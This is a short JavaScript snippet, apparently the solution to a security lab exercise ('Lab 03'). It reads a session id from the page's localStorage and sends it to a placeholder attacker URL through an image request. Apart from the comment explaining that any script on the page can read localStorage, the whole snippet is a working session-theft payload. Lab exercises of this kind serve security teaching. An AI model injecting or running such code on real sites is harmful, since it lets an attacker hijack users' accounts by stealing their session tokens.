// Lab 03, solved: the page keeps the session id in localStorage, and every script on the
// page may read it.
const stolen = localStorage.getItem("session_id") ?? "";

new Image().src = `{{ ATTACKER_URL }}/lab/collect?stolen=${encodeURIComponent(stolen)}`;
